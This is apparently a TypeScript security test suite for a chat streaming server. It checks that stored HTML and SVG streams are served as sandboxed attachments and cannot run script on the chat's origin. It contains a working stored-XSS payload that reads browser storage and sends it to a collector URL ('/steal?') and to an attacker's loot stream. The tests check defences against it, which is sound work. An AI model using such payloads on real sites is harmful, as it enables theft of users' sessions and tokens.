import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { type Server, createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest'
import { TEST_JWT_SECRET, signToken } from '../auth/jwt-tokens.js'
import { type BrowserUser, buildChat, canRunBrowser, launchBrowser } from '../support/browser.js'
import { waitForConnection } from '../support/chat-page.js'
import {
  OPEN_PERMISSIONS,
  type ServerProcess,
  startServerProcess,
} from '../support/server-process.js'
import { type TempDir, createTempDir } from '../support/temp-dir.js'
import { type SecurityServer, startSecurityServer } from './security-server.js'

// F1: a user stores HTML or SVG with a script in a stream and gets someone to open the stream's
// URL. The server's origin is the chat's origin, so a script that ran there could read whatever
// the chat keeps in the browser. Here the attacker is even allowed to `manage` (to create streams
// of any content type): what stops the attack is the content headers alone — the browser
// downloads such content instead of showing it, and a sandboxing Content-Security-Policy would
// keep any script from running even if it showed it — and the chat keeps its token where another
// document of the origin cannot read it.

const SANDBOX = "sandbox; default-src 'none'"
const RAN = 'stored-script-ran'

interface PayloadTarget {
  /** Seqline's URL, and the attacker's token and stream to append the loot to. */
  readonly server: string
  readonly mallory: string
  readonly lootStream: string
  /** Another origin that records requests. */
  readonly collector: string
}

/** A script that reports what it can read of the origin's storage by every means it has. */
function payload(opts: PayloadTarget): string {
  const script = `
    document.title = '${RAN}'
    const loot = JSON.stringify({ local: { ...localStorage }, session: { ...sessionStorage } })
    new Image().src = '${opts.collector}/steal?' + encodeURIComponent(loot)
    fetch('${opts.server}/v1/stream/${opts.lootStream}', {
      method: 'POST',
      headers: { authorization: 'Bearer ${opts.mallory}', 'content-type': 'application/json' },
      body: JSON.stringify({ loot }),
    })`
  return `<!doctype html><html><body><p>hello</p><script>${script}</script></body></html>`
}

function svgPayload(opts: PayloadTarget): string {
  const html = payload(opts)
  const script = html.slice(html.indexOf('<script>') + 8, html.indexOf('</script>'))
  return (
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">' +
    `<script><![CDATA[${script}]]></script></svg>`
  )
}

describe('stream content headers (F1)', () => {
  let s: SecurityServer
  beforeAll(async () => {
    // `privateUserStreams` grants manage on every stream but `user:*`: the attacker may create
    // HTML streams; only the headers stand between the content and the origin.
    s = await startSecurityServer()
  })
  afterAll(() => s?.close())

  const html = '<script>document.title = 1</script>'
  // Every read that answers with content: catch-up, long-poll, the tail, a token in the query.
  const reads: Record<string, string>[] = [
    {},
    { offset: '-1' },
    { offset: '-1', live: 'long-poll' },
    { offset: 'now' },
  ]
  const query = (params: Record<string, string>) => `?${new URLSearchParams(params).toString()}`

  it.each([
    ['text/html', html],
    ['image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg">${html}</svg>`],
    ['text/html; charset=utf-8', html],
    ['application/xhtml+xml', `<html xmlns="http://www.w3.org/1999/xhtml">${html}</html>`],
    ['application/javascript', 'document.title = 1'],
    ['application/octet-stream', html],
  ])(
    'serves %s content as an attachment under a sandboxing CSP on every read',
    async (type, body) => {
      const stream = `files:${type.replace(/[^a-z]/g, '-')}`
      const put = await s.as('mallory', `/v1/stream/${stream}`, {
        method: 'PUT',
        headers: { 'content-type': type },
        body,
      })
      expect(put.status).toBe(201)
      expect(put.headers.get('content-security-policy')).toBe(SANDBOX)
      for (const params of reads) {
        for (const method of ['GET', 'HEAD']) {
          const path = `/v1/stream/${stream}${query({ ...params, access_token: 'mallory' })}`
          const res = await s.as(undefined, path, { method })
          const what = `${method} ${path}`
          expect(res.status, what).toBe(200)
          expect(res.headers.get('content-type'), what).toBe(type)
          expect(res.headers.get('content-security-policy'), what).toBe(SANDBOX)
          expect(res.headers.get('x-content-type-options'), what).toBe('nosniff')
          expect(res.headers.get('content-disposition'), what).toBe('attachment')
          await res.body?.cancel()
        }
      }
    },
  )

  it.each([
    ['application/json', JSON.stringify([html])],
    ['text/plain', html],
  ])('shows %s inline, still sandboxed and never sniffed', async (type, body) => {
    const stream = `files:inline-${type.replace(/[^a-z]/g, '-')}`
    const put = await s.as('mallory', `/v1/stream/${stream}`, {
      method: 'PUT',
      headers: { 'content-type': type },
      body,
    })
    expect(put.status).toBe(201)
    for (const params of reads) {
      const path = `/v1/stream/${stream}${query({ ...params, access_token: 'mallory' })}`
      const res = await s.as(undefined, path)
      expect(res.status, path).toBe(200)
      expect(res.headers.get('content-security-policy'), path).toBe(SANDBOX)
      expect(res.headers.get('x-content-type-options'), path).toBe('nosniff')
      expect(res.headers.get('content-disposition'), path).toBeNull()
      await res.body?.cancel()
    }
  })
})

/** A server on another origin that records every request (where a script would send its loot). */
async function startCollector(): Promise<{
  readonly url: string
  readonly hits: string[]
  close(): Promise<void>
}> {
  const hits: string[] = []
  const server: Server = createServer((req, res) => {
    hits.push(req.url ?? '')
    res.statusCode = 204
    res.end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    hits,
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve())
        server.closeAllConnections()
      }),
  }
}

describe.skipIf(!canRunBrowser)('stored HTML and SVG in Chromium (F1)', () => {
  let dir: TempDir
  let chat: { dir: string; dispose: () => Promise<void> }
  let server: ServerProcess
  let victim: BrowserUser
  let victimToken: string
  let mallory: string
  let collector: Awaited<ReturnType<typeof startCollector>>

  beforeAll(async () => {
    dir = await createTempDir()
    const secretFile = dir.join('jwt-secret')
    await writeFile(secretFile, TEST_JWT_SECRET, { mode: 0o600 })
    chat = await buildChat()
    server = await startServerProcess({
      args: [
        '--auth',
        `jwt:file:${secretFile}`,
        '--static-dir',
        chat.dir,
        // The attacker may create streams of any content type: the headers are the defence.
        '--permissions',
        OPEN_PERMISSIONS,
      ],
    })
    mallory = await signToken('mallory', {}, { expiresInSec: 3_600 })
    victimToken = await signToken('alice', {}, { expiresInSec: 3_600 })
    collector = await startCollector()
    const opts = { server: server.url, mallory, lootStream: 'loot', collector: collector.url }
    const stores: [string, string, string][] = [
      ['files:evil.html', 'text/html', payload(opts)],
      ['files:evil.svg', 'image/svg+xml', svgPayload(opts)],
      ['files:evil.txt', 'text/plain', payload(opts)],
      ['loot', 'application/json', ''],
      ['control-loot', 'application/json', ''],
    ]
    for (const [stream, type, body] of stores) {
      const res = await fetch(`${server.url}/v1/stream/${stream}`, {
        method: 'PUT',
        headers: { authorization: `Bearer ${mallory}`, 'content-type': type },
        body,
      })
      expect(res.status, stream).toBe(201)
    }

    // Alice is signed in to the chat, on the same origin, with her token.
    victim = await launchBrowser(`${server.url}/`)
    await victim.page.getByRole('button', { name: /Sign in with a token/ }).click()
    await victim.page.getByLabel('JSON Web Token').fill(victimToken)
    await victim.page.getByRole('button', { name: 'Sign in', exact: true }).click()
    await waitForConnection(victim.page, 'online')
  }, 120_000)

  afterAll(async () => {
    await victim?.close()
    await collector?.close()
    await server?.dispose()
    await chat?.dispose()
    await dir?.remove()
  })

  /** Opens `path` in a new tab of Alice's browser; resolves with what the browser did. */
  async function open(path: string): Promise<{ shown: boolean; title: string }> {
    const tab = await victim.context.newPage()
    onTestFinished(() => tab.close())
    const shown = await tab.goto(`${server.url}${path}`).then(
      () => true,
      () => false,
    )
    return { shown, title: await tab.title() }
  }

  /** What the attacker collected: appended to the loot stream, or requests to the collector. */
  async function loot(
    stream = 'loot',
    hits = collector.hits,
  ): Promise<{ appended: unknown[]; requests: string[] }> {
    const res = await fetch(`${server.url}/v1/stream/${stream}?offset=-1`, {
      headers: { authorization: `Bearer ${mallory}` },
    })
    return { appended: (await res.json()) as unknown[], requests: [...hits] }
  }

  it('detects a stored script that runs, on an origin that serves it without these headers', async () => {
    // The control: the same page served by the same server as a static file — on the same origin,
    // without the stream content headers, as streams were served — runs its script and reports at
    // once, so the checks below would see a script that ran.
    const control = await startCollector()
    onTestFinished(() => control.close())
    const page = payload({
      server: server.url,
      mallory,
      lootStream: 'control-loot',
      collector: control.url,
    })
    await writeFile(join(chat.dir, 'control.html'), page)
    const tab = await victim.context.newPage()
    onTestFinished(() => tab.close())
    await tab.goto(`${server.url}/control.html`)
    expect(await tab.title()).toBe(RAN)
    await expect
      .poll(async () => (await loot('control-loot', control.hits)).appended)
      .toEqual([{ loot: expect.any(String) }])
    // Even a script that does run on the origin finds no token of Alice's in storage.
    expect(JSON.stringify(await loot('control-loot'))).not.toContain(victimToken)
    await expect.poll(() => control.hits).toEqual([expect.stringMatching(/^\/steal\?/)])
  })

  it.each([
    ['HTML', 'files:evil.html'],
    ['SVG', 'files:evil.svg'],
  ])('downloads stored %s instead of running its script', async (_kind, stream) => {
    const tab = await victim.context.newPage()
    onTestFinished(() => tab.close())
    const download = tab.waitForEvent('download')
    download.catch(() => undefined)
    const shown = await tab.goto(`${server.url}/v1/stream/${stream}?access_token=${mallory}`).then(
      () => true,
      () => false,
    )
    // A script runs while its document loads: had it run, the title would say so by now.
    expect(await tab.title()).not.toBe(RAN)
    expect(shown).toBe(false)
    await (await download).cancel()
    expect(await loot()).toEqual({ appended: [], requests: [] })
  })

  it('runs nothing even where the browser shows the content: the CSP sandbox holds alone', async () => {
    const tab = await victim.context.newPage()
    onTestFinished(() => tab.close())
    const url = `${server.url}/v1/stream/files:evil.html?access_token=${mallory}`
    // As if a browser ignored `Content-Disposition: attachment`: the HTML is rendered.
    await tab.route(url, async (route) => {
      const response = await route.fetch()
      const headers = { ...response.headers() }
      delete headers['content-disposition']
      await route.fulfill({ response, headers })
    })
    await tab.goto(url)
    expect(await tab.locator('p').textContent()).toBe('hello')
    expect(await tab.title()).not.toBe(RAN)
    expect(await loot()).toEqual({ appended: [], requests: [] })
  })

  it('shows HTML stored as text/plain as text', async () => {
    const { shown, title } = await open(`/v1/stream/files:evil.txt?access_token=${mallory}`)
    expect(shown).toBe(true)
    expect(title).not.toBe(RAN)
    expect(await loot()).toEqual({ appended: [], requests: [] })
  })

  it('keeps the chat’s token out of reach of every other document of the origin', async () => {
    // Any same-origin document in another tab — what a stored script would be if it ever ran.
    const tab = await victim.context.newPage()
    onTestFinished(() => tab.close())
    await tab.goto(`${server.url}/healthz`)
    const storage = await tab.evaluate(() =>
      JSON.stringify({ local: { ...localStorage }, session: { ...sessionStorage } }),
    )
    expect(storage).not.toContain(victimToken)
    // The chat tab itself still has it, and stays signed in across a reload.
    await victim.page.reload()
    await waitForConnection(victim.page, 'online')
    expect(victim.errors).toEqual([])
  })
})
